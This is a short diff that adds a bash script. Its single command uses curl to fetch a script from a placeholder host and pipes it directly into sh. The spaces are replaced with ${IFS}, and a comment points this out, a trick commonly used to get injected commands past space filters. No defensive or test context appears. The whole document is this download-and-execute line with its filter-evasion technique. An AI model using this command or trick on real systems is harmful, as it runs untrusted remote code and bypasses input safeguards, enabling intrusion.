@@ -1,0 +1,3 @@
+#!/bin/bash
+# ${IFS} stands in for the spaces.
+curl${IFS}-s${IFS}https://get.tool.invalid/x|sh
